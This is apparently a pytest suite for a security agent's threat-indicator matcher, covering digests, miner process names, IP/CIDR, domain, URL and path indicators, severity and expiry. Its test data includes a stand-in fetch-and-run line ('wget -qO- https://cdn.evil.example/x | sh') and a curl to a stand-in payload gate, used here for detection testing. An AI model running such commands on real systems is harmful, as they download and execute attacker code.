"""The laws of matching indicators."""

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import UNSET, structs

from agent.sense.match.context import MatchContext
from agent.sense.match.indicators import (
    ALSO_LISTED_MAX,
    INDICATOR_RULES,
    RESOLVED,
    judge,
    severity_of,
)
from proto import codec
from proto.content.index import IndicatorRow
from proto.content.kinds import IndicatorKind
from proto.model import (
    ContentStamp,
    Disposition,
    DnsMessage,
    Endpoint,
    Entity,
    File,
    Finding,
    FindingKind,
    Freshness,
    Login,
    Observation,
    ObservationKind,
    Process,
    Role,
    Severity,
    Thing,
    Tlp,
    User,
)
from tests.proto.builders import a_process, an_observation, values_of
from tests.proto.content.builders import (
    BUILT_AT,
    EICAR,
    Row,
    a_provenance,
    an_index,
    some_rows,
)

STAMP = ContentStamp("indicators", "7", 5, Freshness.FRESH)
DIGEST = bytes.fromhex(EICAR)
INDEX = an_index()


def a_context(
    rows: list[Row] | None = None, now: int = BUILT_AT, **changes: object
) -> MatchContext:
    values: dict[str, object] = {
        "tenant": b"t" * 16,
        "host": b"h" * 16,
        "index": INDEX if rows is None else an_index(rows),
        "stamp": STAMP,
        "now": now,
    }
    return MatchContext(**(values | changes))  # type: ignore[arg-type]


def seen(thing: Thing, kind: ObservationKind, **changes: object) -> Observation:
    role = Role.ACTOR if isinstance(thing, Process | Login) else Role.TARGET
    observed = an_observation(None, kind=kind, **changes)
    return structs.replace(observed, subject=Entity(role, thing))


def a_file(path: str = "/srv/a", digest: bytes | None = DIGEST) -> File:
    return File(path=path, sha256=digest)


def an_endpoint(address: str = "192.0.2.1", port: int = 4444) -> Endpoint:
    return Endpoint(
        protocol="tcp",
        local_address="10.0.0.5",
        local_port=40_000,
        remote_address=address,
        remote_port=port,
    )


def only(found: tuple[Finding, ...]) -> Finding:
    (finding,) = found
    return finding


def test_the_port_of_who_came_to_us_is_no_endpoint() -> None:
    rows = [(IndicatorKind.IP_PORT, "192.0.2.1:4444", a_provenance())]
    ours = seen(an_endpoint(), ObservationKind.SOCKET_OPEN)
    theirs = structs.replace(ours, subject=Entity(Role.ACTOR, an_endpoint()))

    assert len(judge(ours, a_context(rows))) == 1
    assert judge(theirs, a_context(rows)) == ()
    assert judge(theirs, a_context([(IndicatorKind.IPV4, "192.0.2.1", a_provenance())]))


def a_dns_answer(*answers: str) -> DnsMessage:
    return DnsMessage(name="cdn.example.net", qtype="A", code="NOERROR", answers=answers)


LISTED = [
    (IndicatorKind.IPV4, "192.0.2.66", a_provenance(confidence=95)),
    (IndicatorKind.IPV6, "2001:db8::66", a_provenance(confidence=95)),
]


@pytest.mark.parametrize("address", ["192.0.2.66", "2001:db8::66"])
def test_a_name_that_leads_to_a_listed_address_is_found_and_is_less_than_a_contact(
    address: str,
) -> None:
    answer = a_dns_answer("other.example.net", "192.0.2.9", address, address)

    finding = only(judge(seen(answer, ObservationKind.DNS_ANSWER), a_context(LISTED)))

    assert (finding.rule.id, finding.title) == (RESOLVED.rule.id, RESOLVED.rule.name)
    assert finding.severity is Severity.MEDIUM
    assert finding.indicator is not None
    assert finding.indicator.value == address
    assert finding.arguments[0].value == f"cdn.example.net is {address}"
    assert finding.entities == (Entity(Role.TARGET, answer),)


def test_answers_that_lead_nowhere_listed_and_queries_are_nothing() -> None:
    answer = a_dns_answer("192.0.2.9", "MX 10 mail.example.org", "TXT 5 bytes", ".")

    assert judge(seen(answer, ObservationKind.DNS_ANSWER), a_context(LISTED)) == ()
    assert (
        judge(seen(a_dns_answer("192.0.2.66"), ObservationKind.DNS_QUERY), a_context(LISTED)) == ()
    )


def test_every_kind_of_indicator_has_a_rule_with_a_title_of_its_own_words() -> None:
    assert set(INDICATOR_RULES) == set(IndicatorKind)
    for kind, rule in INDICATOR_RULES.items():
        assert rule.rule.id == f"indicator.{kind.value}"
        assert rule.rule.name
        assert rule.scale[-1][0] == 0


def test_a_program_that_is_run_is_matched_by_its_digest() -> None:
    process = a_process(exe="/tmp/x", sha256=DIGEST)

    finding = only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context()))

    assert finding.rule.id == "indicator.sha256"
    assert finding.kind is FindingKind.DETECTION
    assert finding.severity is Severity.HIGH
    assert finding.process == process
    assert finding.entities == (Entity(Role.ACTOR, process),)


def test_a_script_that_is_run_is_matched_by_its_digest() -> None:
    process = a_process(exe="/bin/sh", sha256=None, script="/tmp/x.sh", script_sha256=DIGEST)

    finding = only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context()))

    assert finding.rule.id == "indicator.sha256"
    assert finding.severity is Severity.HIGH


def test_a_program_that_could_not_be_executed_is_found_for_what_it_is() -> None:
    process = a_process(name="xmrig", exe="/tmp/x", sha256=DIGEST)

    run = only(judge(seen(process, ObservationKind.PROCESS_EXEC_FAILED), a_context()))
    lying = only(judge(seen(a_file(), ObservationKind.FILE_SEEN), a_context()))

    assert run.rule.id == "indicator.sha256"
    assert run.severity is lying.severity


def test_a_finding_says_where_its_indicator_comes_from() -> None:
    finding = only(judge(seen(a_file(), ObservationKind.FILE_SEEN), a_context()))

    told = finding.indicator
    assert told is not None
    assert (told.kind, told.value, told.feed) == ("sha256", EICAR, "testfeed")
    assert (told.confidence, told.tlp, told.family) == (80, Tlp.GREEN, "Mirai")
    assert (told.content_version, told.warning) == ("7", "")
    assert told.first_seen == a_provenance().first_seen
    assert told.expires == a_provenance().expires
    assert finding.content == (STAMP,)
    assert [attack.technique for attack in finding.attack] == ["T1071.001"]
    assert finding.confidence == 80


@pytest.mark.parametrize(
    "kind",
    [ObservationKind.FILE_SEEN, ObservationKind.FILE_CREATED, ObservationKind.FILE_CHANGED],
)
def test_a_file_is_matched_by_digest_and_by_name(kind: ObservationKind) -> None:
    found = judge(seen(a_file("/tmp/.x/kdevtmpfsi"), kind), a_context())

    assert [finding.rule.id for finding in found] == ["indicator.sha256", "indicator.file_name"]
    assert only(judge(seen(a_file("/tmp/kdevtmpfsi", None), kind), a_context())).rule.id == (
        "indicator.file_name"
    )


@pytest.mark.parametrize(
    "process",
    [
        a_process(name="xmrig", exe="/usr/bin/python3"),
        a_process(name="xmr", exe="/opt/xmrig"),
        a_process(name="sh", exe=None, argv=("xmrig", "-o")),
        a_process(name="sh", exe=UNSET, argv=("/tmp/xmrig",)),
    ],
)
def test_a_process_is_matched_by_each_of_its_names(process: Process) -> None:
    finding = only(judge(seen(process, ObservationKind.PROCESS_SEEN), a_context()))

    assert finding.rule.id == "indicator.process_name"
    assert finding.indicator is not None
    assert finding.indicator.value == "xmrig"


def test_a_program_of_a_listed_file_name_is_matched_when_it_runs() -> None:
    process = a_process(exe="/tmp/kdevtmpfsi")

    finding = only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context()))

    assert finding.rule.id == "indicator.file_name"


def test_a_connection_is_one_finding_with_the_best_of_what_covers_it() -> None:
    process = a_process(exe="/usr/bin/curl")

    finding = only(
        judge(seen(an_endpoint(), ObservationKind.SOCKET_OPEN, process=process), a_context())
    )

    assert finding.rule.id == "indicator.ip_port"
    assert finding.indicator is not None
    assert finding.indicator.value == "192.0.2.1:4444"
    assert finding.entities == (
        Entity(Role.TARGET, an_endpoint()),
        Entity(Role.ACTOR, process),
    )
    arguments = {argument.name: argument.value for argument in finding.arguments}
    assert arguments["seen"] == "192.0.2.1 port 4444"
    assert "wide: cidr 192.0.2.0/24" in arguments["also_listed"]


@pytest.mark.parametrize(
    ("address", "port", "rule"),
    [
        ("192.0.2.1", 443, "indicator.ipv4"),
        ("::ffff:192.0.2.1", 443, "indicator.ipv4"),
        ("192.0.2.9", 443, "indicator.cidr"),
        ("2001:db8::1", 443, "indicator.ipv6"),
        ("2001:db8:0:0::9", 443, "indicator.cidr"),
    ],
)
def test_an_address_is_matched_alone_and_in_networks(address: str, port: int, rule: str) -> None:
    observed = seen(an_endpoint(address, port), ObservationKind.SOCKET_OPEN)

    assert only(judge(observed, a_context())).rule.id == rule


def test_a_login_from_a_listed_address_is_matched_whatever_its_port() -> None:
    login = Login(
        remote_address="192.0.2.1", remote_port=4444, service="sshd", user=User(name="root")
    )

    finding = only(judge(seen(login, ObservationKind.LOGIN), a_context()))

    assert finding.rule.id == "indicator.ipv4"
    assert finding.login == login


@pytest.mark.parametrize(
    "observation",
    [
        seen(a_file("/srv/harmless", bytes(32)), ObservationKind.FILE_SEEN),
        seen(a_file(), ObservationKind.FILE_REMOVED),
        seen(an_endpoint("203.0.113.1"), ObservationKind.SOCKET_OPEN),
        seen(an_endpoint(), ObservationKind.SOCKET_LISTEN),
        seen(Endpoint("tcp", "0.0.0.0", 22), ObservationKind.SOCKET_OPEN),
        seen(Login(remote_address=None), ObservationKind.LOGIN),
        seen(a_process(), ObservationKind.PROCESS_EXEC),
        seen(a_process(sha256=DIGEST), ObservationKind.PROCESS_EXIT),
        seen(a_file(), ObservationKind.PROCESS_EXEC),
        seen(a_process(), ObservationKind.SOCKET_OPEN),
    ],
)
def test_what_is_not_listed_or_not_of_the_kind_is_no_finding(observation: Observation) -> None:
    assert judge(observation, a_context()) == ()


def test_an_expired_indicator_does_not_match_from_its_hour_on() -> None:
    expires = a_provenance().expires
    assert expires is not None
    observed = seen(a_file(), ObservationKind.FILE_SEEN)

    assert judge(observed, a_context(now=expires - 1))
    assert judge(observed, a_context(now=expires)) == ()


def test_an_indicator_without_an_end_never_expires() -> None:
    context = a_context([(IndicatorKind.SHA256, EICAR, a_provenance(expires=None))], now=2**62)

    assert judge(seen(a_file(), ObservationKind.FILE_SEEN), context)


@pytest.mark.parametrize(
    ("kind", "confidence", "was_run", "severity"),
    [
        (IndicatorKind.SHA256, 95, True, Severity.CRITICAL),
        (IndicatorKind.SHA256, 95, False, Severity.HIGH),
        (IndicatorKind.SHA256, 50, True, Severity.MEDIUM),
        (IndicatorKind.SHA256, 0, False, Severity.INFORMATIONAL),
        (IndicatorKind.IP_PORT, 75, False, Severity.MEDIUM),
        (IndicatorKind.IPV4, 50, False, Severity.LOW),
        (IndicatorKind.FILE_NAME, 100, False, Severity.MEDIUM),
        (IndicatorKind.PROCESS_NAME, 50, False, Severity.INFORMATIONAL),
    ],
)
def test_severity_follows_confidence_and_what_was_matched(
    kind: IndicatorKind, confidence: int, was_run: bool, severity: Severity
) -> None:
    row = IndicatorRow(kind, "x", a_provenance(confidence=confidence))

    assert severity_of(row, was_run=was_run) is severity


@given(kind=st.sampled_from(IndicatorKind), low=st.integers(0, 100), high=st.integers(0, 100))
def test_more_confidence_is_never_less_severe(kind: IndicatorKind, low: int, high: int) -> None:
    low, high = sorted((low, high))

    severities = [
        severity_of(IndicatorRow(kind, "x", a_provenance(confidence=confidence))).rank
        for confidence in (low, high)
    ]

    assert severities == sorted(severities)


def test_what_a_warninglist_doubts_is_a_signal_and_the_list_is_named() -> None:
    doubted = a_provenance(confidence=100, warning="public DNS")

    finding = only(
        judge(
            seen(a_file(), ObservationKind.FILE_SEEN),
            a_context([(IndicatorKind.SHA256, EICAR, doubted)]),
        )
    )

    assert finding.disposition is Disposition.SIGNAL
    assert finding.severity is Severity.INFORMATIONAL
    assert finding.indicator is not None
    assert finding.indicator.warning == "public DNS"


def test_a_list_without_doubt_goes_before_a_more_confident_one_with() -> None:
    rows: list[Row] = [
        (IndicatorKind.SHA256, EICAR, a_provenance("sure", confidence=40)),
        (IndicatorKind.SHA256, EICAR, a_provenance("doubted", confidence=99, warning="x")),
    ]

    finding = only(judge(seen(a_file(), ObservationKind.FILE_SEEN), a_context(rows)))

    assert finding.indicator is not None
    assert finding.indicator.feed == "sure"
    assert finding.disposition is Disposition.ALERT


def test_many_lists_make_one_finding_that_names_a_bounded_number_of_them() -> None:
    rows: list[Row] = [
        (IndicatorKind.SHA256, EICAR, a_provenance(f"feed{n}", confidence=n)) for n in range(40)
    ]

    finding = only(judge(seen(a_file(), ObservationKind.FILE_SEEN), a_context(rows)))

    (also,) = (one for one in finding.arguments if one.name == "also_listed")
    assert finding.indicator is not None
    assert finding.indicator.feed == "feed39"
    assert len(also.value.splitlines()) == ALSO_LISTED_MAX


def test_the_same_thing_found_again_has_the_same_key_and_another_thing_another() -> None:
    def key(path: str, digest: bytes = DIGEST, **context: object) -> bytes:
        observed = seen(a_file(path, digest), ObservationKind.FILE_SEEN)
        return only(judge(observed, a_context(**context))).key  # type: ignore[arg-type]

    other = hashlib.sha256(b"other").digest()

    assert key("/a") == key("/a", now=BUILT_AT + 1, stamp=None)
    assert len({key("/a"), key("/b"), key("/a", other), key("/a", host=b"x" * 16)}) == 4


def test_the_key_does_not_depend_on_the_process_number() -> None:
    keys = {
        only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context())).key
        for process in (
            a_process(exe="/tmp/x", sha256=DIGEST, pid=1),
            a_process(exe="/tmp/x", sha256=DIGEST, pid=2, start=9),
        )
    }

    assert len(keys) == 1


def test_host_text_never_stands_in_a_title() -> None:
    hostile = "/tmp/\x1b[2Jkdevtmpfsi/../kdevtmpfsi"

    finding = only(judge(seen(a_file(hostile, None), ObservationKind.FILE_SEEN), a_context()))

    assert finding.title == INDICATOR_RULES[IndicatorKind.FILE_NAME].rule.name
    assert finding.arguments[0].value == hostile


@given(observation=values_of(Observation))
def test_any_observation_gives_findings_that_can_be_sealed(observation: object) -> None:
    assert isinstance(observation, Observation)

    for finding in judge(observation, a_context()):
        assert codec.decode_record(codec.encode_record(finding)) == (finding, False)


def test_every_listed_thing_gives_a_finding_that_can_be_sealed() -> None:
    things: list[tuple[Thing, ObservationKind]] = [
        (a_file("/x/kdevtmpfsi"), ObservationKind.FILE_SEEN),
        (a_process(name="xmrig", sha256=DIGEST), ObservationKind.PROCESS_EXEC),
        (an_endpoint(), ObservationKind.SOCKET_OPEN),
        (an_endpoint("2001:db8::1"), ObservationKind.SOCKET_OPEN),
        (Login(remote_address="192.0.2.1"), ObservationKind.LOGIN),
        (DnsMessage(name="x.evil.example", qtype="A"), ObservationKind.DNS_QUERY),
        (a_process(argv=("x", "http://pay.example/gate/y")), ObservationKind.PROCESS_EXEC),
    ]

    found = [finding for thing, kind in things for finding in judge(seen(thing, kind), a_context())]

    met = {finding.indicator.kind for finding in found if finding.indicator}
    assert met == {kind.value for kind, _, _ in some_rows()} - {"ipv4", "cidr"} | {"ipv4"}
    for finding in found:
        assert codec.decode_record(codec.encode_record(finding)) == (finding, False)


NAMED_ROWS: list[Row] = [
    (IndicatorKind.DOMAIN, "evil.example", a_provenance(confidence=95, attack="")),
    (IndicatorKind.URL_PREFIX, "http://pay.example/gate", a_provenance(confidence=95, attack="")),
    (IndicatorKind.FILE_PATH, "/usr/lib/.libc/x", a_provenance(confidence=95)),
]


@pytest.mark.parametrize("kind", [ObservationKind.DNS_QUERY, ObservationKind.DNS_ANSWER])
def test_a_name_below_a_listed_domain_is_found_when_it_is_asked_for(kind: ObservationKind) -> None:
    message = DnsMessage(name="a.b.Evil.example", qtype="A", answers=())

    finding = only(judge(seen(message, kind), a_context(NAMED_ROWS)))

    assert finding.rule.id == "indicator.domain"
    assert finding.severity is Severity.HIGH
    assert finding.indicator is not None
    assert (finding.indicator.kind, finding.indicator.value) == ("domain", "evil.example")
    assert finding.arguments[0].value == "a.b.Evil.example"


def test_a_query_and_its_answer_are_one_finding() -> None:
    message = DnsMessage(name="a.evil.example", qtype="A")
    keys = {
        only(judge(seen(message, kind), a_context(NAMED_ROWS))).key
        for kind in (ObservationKind.DNS_QUERY, ObservationKind.DNS_ANSWER)
    }

    assert len(keys) == 1


def test_a_name_that_stands_for_a_listed_one_is_found() -> None:
    message = DnsMessage(
        name="cdn.example.net", qtype="A", code="NOERROR", answers=("x.evil.example", "192.0.2.200")
    )

    finding = only(judge(seen(message, ObservationKind.DNS_ANSWER), a_context(NAMED_ROWS)))

    assert finding.rule.id == "indicator.domain"
    assert finding.arguments[0].value == "cdn.example.net is x.evil.example"


def test_words_of_other_records_are_no_names() -> None:
    message = DnsMessage(name="a.example.net", qtype="MX", answers=("MX 10 mail.evil.example",))

    assert judge(seen(message, ObservationKind.DNS_ANSWER), a_context(NAMED_ROWS)) == ()


@pytest.mark.parametrize(
    ("argument", "value"),
    [
        ("http://pay.example/gate/x.sh", "http://pay.example/gate"),
        ("wget -qO- https://cdn.evil.example/x | sh", "evil.example"),
    ],
)
def test_a_program_given_a_listed_url_is_found(argument: str, value: str) -> None:
    process = structs.replace(a_process(), argv=("sh", "-c", argument), sha256=None)

    finding = only(judge(seen(process, ObservationKind.PROCESS_EXEC), a_context(NAMED_ROWS)))

    assert finding.rule.id == "indicator.url"
    assert finding.indicator is not None
    assert finding.indicator.value == value
    assert [attack.technique for attack in finding.attack] == ["T1105"]


def test_a_program_that_could_not_be_executed_was_given_nothing() -> None:
    process = structs.replace(a_process(), argv=("curl", "http://pay.example/gate"), sha256=None)
    observed = seen(process, ObservationKind.PROCESS_EXEC_FAILED)

    assert judge(observed, a_context(NAMED_ROWS)) == ()


@pytest.mark.parametrize(
    "thing",
    [a_file("/usr/lib/.libc/x", None), structs.replace(a_process(), exe="/usr/lib/.libc/x")],
)
def test_a_file_at_a_listed_path_is_found(thing: Thing) -> None:
    kind = ObservationKind.FILE_SEEN if isinstance(thing, File) else ObservationKind.PROCESS_EXEC

    finding = only(judge(seen(thing, kind), a_context(NAMED_ROWS)))

    assert (finding.rule.id, finding.severity) == ("indicator.file_path", Severity.MEDIUM)


def test_a_listed_domain_that_has_expired_is_nothing() -> None:
    rows = [(IndicatorKind.DOMAIN, "evil.example", a_provenance(expires=BUILT_AT))]
    message = DnsMessage(name="evil.example", qtype="A")
    late = BUILT_AT + 3600 * 10**9

    assert judge(seen(message, ObservationKind.DNS_QUERY), a_context(rows, now=late)) == ()
